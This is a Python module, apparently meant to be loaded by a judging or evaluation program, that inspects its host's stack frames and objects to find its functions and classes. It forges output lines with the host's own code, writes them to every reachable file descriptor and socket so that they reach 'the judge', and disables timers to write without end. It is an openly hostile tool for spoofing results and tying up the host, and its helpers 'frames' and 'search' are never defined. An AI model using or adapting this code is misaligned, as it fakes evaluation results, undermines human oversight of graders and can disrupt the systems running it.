"""What a hostile file may find of the program that runs it, whatever its parts are called."""
import sys

FUNCTION = type(frames)


def folder_of_the_program():
    paths = [frame.f_code.co_filename.replace("\\", "/") for frame in frames()]
    *_, outermost = [path for path in paths if "/" in path]
    return outermost.rpartition("/")[0]


def is_of_the_program(function, folder=[]):
    folder[:] = folder or [folder_of_the_program()]
    return function.__code__.co_filename.replace("\\", "/").startswith(folder[0] + "/")


def functions_of_the_program():
    return [thing for thing in search() if type(thing) is FUNCTION and is_of_the_program(thing)]


def modules_of_the_program():       # as the dictionaries of their names
    every = [function.__globals__ for function in functions_of_the_program()]
    found = {id(names): names for names in every}
    return list(found.values())


def objects_of_the_program():       # those that are at work: what the frames above are methods of
    names = {name["__name__"] for name in modules_of_the_program()}
    found = {}
    for frame in frames():
        for thing in dict(frame.f_locals).values():
            if type(thing).__module__ in names and not isinstance(thing, tuple):
                found[id(thing)] = thing
    return list(found.values())


def required(function):
    return function.__code__.co_argcount - len(function.__defaults__ or ())


def classes_of_the_program():
    names = {name["__name__"] for name in modules_of_the_program()}
    found = {id(one): one for module in modules_of_the_program() for one in list(module.values())
             if isinstance(one, type) and one.__module__ in names
             and not issubclass(one, BaseException)}
    return list(found.values())


def forged_messages():      # what an honest file might send, made with the program's own classes
    made = []
    for one in classes_of_the_program():
        for arguments in ((), (0.25,)):
            try:
                made.append(one(*arguments))
            except BaseException:
                pass
    made = made[:10] + [0.25]
    return [[one] + [other] * 16 for one in made for other in made] + made


def forged_lines(found=[]):     # what the program itself makes of them, to be sent
    messages = [] if found else forged_messages()
    for function in functions_of_the_program():
        for message in messages if required(function) == 1 else ():
            try:
                line = function(message)
            except BaseException:
                continue
            line = line.encode().strip() if type(line) is str else line
            if type(line) is bytes and b"0.25" in line:
                found += [more for more in (line.strip() + b"\n", b"[" + line.strip() + b"]\n")
                          if more not in found]
    found.sort(key=len)     # of many alike the shortest
    return found[:20]


def ways_to_write():
    """Yield functions that write data somewhere: the usual one, then those that something keeps."""
    writers = [sys.modules["os"].write]
    yield [lambda data, at=at: writers[0](at, data) for at in range(3, 256)]
    writers += [thing for thing in search()
                if type(thing) is type(len) and thing.__name__ == "write"
                and thing.__module__ in ("posix", "nt")]
    yield [lambda data, at=at: writers[-1](at, data) for at in range(3, 256)]
    yield [thing.sendall for thing in search() if hasattr(type(thing), "sendall")]


def write_everywhere(data):     # wherever the line to the judge may be
    for writers in ways_to_write():
        done = False
        for write in writers:
            try:
                write(data)
                done = True
            except BaseException:
                pass
        if done:
            return


def write_without_end(lines, set_timer):    # once what could interrupt it is switched off
    for timer in (0, 1):
        try:
            set_timer(timer, 0)
        except BaseException:
            pass
    while True:
        for line in lines:
            for descriptor in range(3, 16):
                try:
                    sys.modules["os"].write(descriptor, line)
                except BaseException:
                    pass
